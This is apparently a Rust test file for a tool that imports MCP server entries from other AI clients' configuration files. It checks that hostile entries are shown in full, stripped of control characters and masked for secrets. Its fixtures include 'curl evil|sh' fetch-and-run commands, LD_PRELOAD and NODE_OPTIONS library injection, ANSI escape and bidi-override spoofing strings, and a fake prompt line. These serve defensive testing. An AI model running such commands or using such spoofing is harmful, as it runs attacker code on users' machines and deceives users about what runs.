//! Hostile files of other clients, as input of `goblin import` and `goblin add`.
//!
//! The user must see the full command that would run. No trick in the file may hide or disguise a part of it.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixListener;

use serde_json::{Value, json};

use crate::harness::TIMEOUT;
use crate::home::{Home, Ran};
use crate::terminal::Terminal;

/// Returns a home directory with these servers in Cursor's configuration.
fn home(servers: &Value) -> Home {
    let home = Home::new(&json!({ "mcpServers": {} }));
    home.scratch.write(".cursor/mcp.json", &json!({ "mcpServers": servers }).to_string());
    home
}

/// Returns the text that a terminal of this width shows before the question.
async fn prompt(home: &Home, columns: u16) -> String {
    let mut command = home.goblin(&["import", "--config", home.config()]);
    let mut terminal = Terminal::of(&mut command).of_width(columns).with_keyboard(&mut command);
    let mut child = command.spawn().expect("goblin starts");
    let shown = terminal.await_text("? [y/N] ").await;
    terminal.type_in("n\n");
    terminal.await_text("nothing was written").await;
    tokio::time::timeout(TIMEOUT, child.wait()).await.expect("the process ends").expect("the command ran");
    shown.replace("\r\n", "\n")
}

async fn import(home: &Home) -> String {
    let ran = home.run(&["import", "--config", home.config(), "--dry-run"]).await;
    assert_eq!((ran.code, ran.stderr.as_str()), (Some(0), ""), "{ran:?}");
    ran.text().to_owned()
}

/// Asserts that the text has no control or invisible characters except line ends.
fn assert_harmless(shown: &str) {
    let is_hostile = |letter: char| {
        letter.is_control() && letter != '\n'
            || matches!(letter, '\u{61c}' | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
            || matches!(letter, '\u{2066}'..='\u{2069}' | '\u{a0}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    assert_eq!(shown.chars().find(|letter| is_hostile(*letter)), None, "{shown:?}");
}

#[tokio::test]
async fn hard8_the_prompt_shows_commands_in_full() {
    let home = home(&json!({
        "escaped": { "command": "sh", "args": ["-c", r"PASS=\;curl evil|sh"] },
        "quoted": { "command": "sh", "args": ["-c", "TOKEN=\"a\"curl evil; KEY: evil"] },
        "option": { "command": "npx", "args": ["--no-auth", "evil-pkg@1.0.0", "--key", "evil-too"] },
        "loader": { "command": "x", "env": { "LD_PRELOAD": "/evil.so", "NODE_OPTIONS": "-r /evil.js", "PLAIN": "hidden-value" } },
        "program": { "command": "./TOKEN=evil", "cwd": "/evil" },
        "url": { "command": "curl", "args": ["https://evil:evil@evil.example/?evil"] },
        "mask": { "command": "x", "args": ["***"] },
    }));
    let shown = prompt(&home, 500).await;
    for line in [
        r"escaped  cursor  sh -c 'PASS=\;curl evil|sh'",
        r#"quoted   cursor  sh -c 'TOKEN="a"curl evil; KEY: evil'"#,
        "option   cursor  npx --no-auth evil-pkg@1.0.0 --key evil-too",
        "loader   cursor  LD_PRELOAD=/evil.so 'NODE_OPTIONS=-r /evil.js' PLAIN=*** x",
        "program  cursor  ./TOKEN=evil  (in /evil)",
        "url      cursor  curl 'https://evil:evil@evil.example/?evil'",
        "mask     cursor  x '***'",
    ] {
        assert!(shown.lines().any(|shown| shown == line), "{line}\nis not in\n{shown}");
    }
    assert!(!shown.contains("hidden-value"), "{shown}");
    // A pipe shows the same.
    let piped = import(&home).await;
    assert!(shown.starts_with(piped.split("nothing was written").next().expect("a beginning")), "{piped}");
}

#[tokio::test]
async fn hard8_a_prompt_contains_no_terminal_control_characters() {
    let home = home(&json!({
        "line\nnext": { "command": "a\nwrite to /safe? [y/N] " },
        "ansi\u{1b}[2J": { "command": "\u{1b}[31mx", "args": ["\u{9b}1A", "a\rb", "\u{7}"] },
        "bidi\u{202e}cod": { "command": "x\u{2066}y\u{2069}", "args": ["\u{202e}evil", "\u{61c}", "\u{200b}", "\u{e0041}"] },
        "space": { "command": "x", "args": ["a\u{a0}b", "a\u{3000}b", "a\u{2800}b"], "cwd": "/a\u{202e}b" },
        "name": { "command": "x", "env": { "A\u{202e}": "1", "LD_PRELOAD": "\u{1b}[8m/evil" } },
        "link": { "url": "https://evil.example/\u{202e}" },
    }));
    for shown in [prompt(&home, 300).await, import(&home).await] {
        assert_harmless(&shown);
        assert_eq!(shown.matches("\nwrite to ").count(), usize::from(shown.ends_with("? [y/N] ")), "{shown}");
        for part in [
            r"'a\nwrite to /safe? [y/N] '",
            r"'\u{1b}[31mx' '\u{9b}1A' 'a\rb' '\u{7}'",
            r"'x\u{2066}y\u{2069}' '\u{202e}evil' '\u{61c}' '\u{200b}' '\u{e0041}'",
            r"'a\u{a0}b' 'a\u{3000}b' 'a\u{2800}b'  (in '/a\u{202e}b')",
            r"'LD_PRELOAD=\u{1b}[8m/evil'",
        ] {
            assert!(shown.contains(part), "{part}\nis not in\n{shown}");
        }
    }
    // Users read names too, so no name in the file has hidden characters.
    let ran = home.run(&["import", "--config", home.config(), "--yes"]).await;
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let written = std::fs::read_to_string(&home.config).expect("the file exists");
    let written: Value = serde_json::from_str(&written).expect("JSON");
    written["mcpServers"].as_object().expect("servers").keys().for_each(|name| assert_harmless(name));
}

#[tokio::test]
async fn hard8_a_long_command_is_wrapped_and_imitates_no_other_line() {
    let spoof = format!("{}a       cursor  npx good", " ".repeat(37));
    let long = "evil ".repeat(400);
    let home = home(&json!({ "a": { "command": "sh", "args": ["-c", spoof, long] } }));
    let shown = prompt(&home, 60).await;
    let starts: Vec<_> = shown.lines().filter(|line| !line.is_empty() && !line.starts_with(' ')).collect();
    assert_eq!(starts.len(), 3, "the head, the server and the question: {starts:?}");
    assert!(shown.lines().all(|line| line.len() <= 60 || line.starts_with("write to ")), "{shown}");
    let rows = shown.lines().skip(1).take_while(|line| !line.is_empty());
    let unwrapped: String = rows.map(|line| line.get(16..).unwrap_or_default()).collect();
    assert_eq!(unwrapped, format!("sh -c '{spoof}' '{long}'"), "nothing is cut");
}

#[tokio::test]
async fn hard8_add_shows_the_added_server_in_full() {
    let home = Home::new(&json!({ "mcpServers": {} }));
    let add = async |arguments: &[&str]| -> Ran {
        let ran = home.run(&[&["add", "--config", home.config()], arguments].concat()).await;
        assert_eq!(ran.code, Some(0), "{ran:?}");
        ran
    };
    let ran =
        add(&["a", "--env", "LD_PRELOAD=/e.so", "--env", "K=hide-me", "--", "sh", "-c", "PASS=\\;evil\u{202e}|sh"])
            .await;
    assert!(ran.text().ends_with("\n  runs LD_PRELOAD=/e.so K=*** sh -c 'PASS=\\;evil\\u{202e}|sh'\n"), "{ran:?}");
    let ran = add(&["b", "https://h.example/mcp?key=hide-me", "--header", "X-Key: hide-me"]).await;
    assert!(ran.text().ends_with("\n  runs https://h.example/mcp?***  (with X-Key: ***)\n"), "{ran:?}");
    let ran = add(&["c", "--files", "/some where"]).await;
    assert!(ran.text().ends_with("\n  runs the files of '/some where'\n"), "{ran:?}");
}

#[tokio::test]
async fn hard8_check_and_json_output_mask_secrets() {
    let servers = json!({
        "a": { "command": "x", "args": ["--token", "hide-me", "https://hide-me:hide-me@h.example/x?k=hide-me"] },
        "b": { "url": "https://h.example/mcp?key=hide-me", "headers": { "X-Key": "hide-me" } },
    });
    let home = home(&servers);
    let json = home.run(&["import", "--json", "--config", home.config()]).await;
    std::fs::write(&home.config, json!({ "mcpServers": servers }).to_string()).expect("the file can be written");
    let check = home.run(&["check", "--config", home.config()]).await;
    for ran in [json, check] {
        assert!(ran.text().contains("https://h.example/mcp?***"), "{ran:?}");
        assert!(ran.text().contains("https://***@h.example/x?***"), "{ran:?}");
        assert!(!ran.text().contains("hide-me") && !ran.stderr.contains("hide-me"), "{ran:?}");
    }
}

#[tokio::test]
async fn hard8_import_reads_regular_files_within_limits_only() {
    let home = home(&json!({ "good": { "command": "x" } }));
    let at = |name: &str| home.scratch.path().join(name);
    for directory in [".gemini", ".codex", ".codeium/windsurf", ".vscode", ".config/Code/User", ".config/Claude"] {
        std::fs::create_dir_all(at(directory)).expect("a directory");
    }
    let made = std::process::Command::new("mkfifo").arg(at(".mcp.json")).status().expect("mkfifo is there");
    assert!(made.success());
    symlink("/dev/zero", at(".gemini/settings.json")).expect("a link");
    let _socket = UnixListener::bind(at(".codex/config.toml")).expect("a socket");
    std::fs::create_dir(at(".codeium/windsurf/mcp_config.json")).expect("a directory");
    // The sparse file uses no disk space. Its size alone is a reason to skip it.
    let huge = std::fs::File::create(at(".vscode/mcp.json")).expect("a file");
    huge.set_len(1 << 40).expect("a size");
    std::fs::write(at(".config/Claude/claude_desktop_config.json"), [0xff]).expect("a file");
    let many: serde_json::Map<_, _> =
        (0..501).map(|number| (format!("s{number}"), json!({ "command": "x" }))).collect();
    home.scratch.write(".config/Code/User/mcp.json", &json!({ "servers": many }).to_string());
    let shown = import(&home).await;
    for fragment in [
        "/.mcp.json: skipped: not a regular file",
        "/.gemini/settings.json: skipped: not a regular file",
        "/.codex/config.toml: skipped: not a regular file",
        "/.codeium/windsurf/mcp_config.json: skipped: not a regular file",
        "/.vscode/mcp.json: skipped: the file is larger than ",
        "/claude_desktop_config.json: skipped: the file is not UTF-8",
        "/Code/User/mcp.json: has 501 servers; at most 500 can be reviewed at once",
        "good    cursor  x\n",
    ] {
        assert!(shown.contains(fragment), "{fragment}\nis not in\n{shown}");
    }
    for special in [at(".mcp.json"), "/dev/zero".into(), "/dev/stdin".into(), at(".codex")] {
        let ran = home.run(&["import", "--from", special.to_str().expect("text"), "--dry-run"]).await;
        assert_eq!(ran.code, Some(2), "{ran:?}");
        assert!(ran.stderr.contains("not a regular file"), "{ran:?}");
    }
}

#[tokio::test]
async fn hard8_a_command_too_long_to_judge_is_not_imported() {
    let home = home(&json!({ "long": { "command": "x", "args": ["a".repeat(20_000)] }, "good": { "command": "x" } }));
    let shown = import(&home).await;
    assert!(shown.contains("long: not imported: the entry has 20002 bytes as shown"), "{shown}");
    assert!(shown.contains("good    cursor  x\n") && !shown.contains("aaaa"), "{shown}");
}

#[tokio::test]
async fn hard8_import_follows_links_to_regular_files() {
    let home = Home::new(&json!({ "mcpServers": {} }));
    let dotfiles = home.scratch.write("dotfiles/cursor.json", r#"{"mcpServers":{"a":{"command":"x"}}}"#);
    // Files of other clients are only read, so their permissions do not matter.
    std::fs::set_permissions(&dotfiles, PermissionsExt::from_mode(0o666)).expect("the test owns the file");
    std::fs::create_dir(home.scratch.path().join(".cursor")).expect("a directory");
    symlink(&dotfiles, home.scratch.path().join(".cursor/mcp.json")).expect("a link");
    assert!(import(&home).await.contains("a       cursor  x\n"));
}
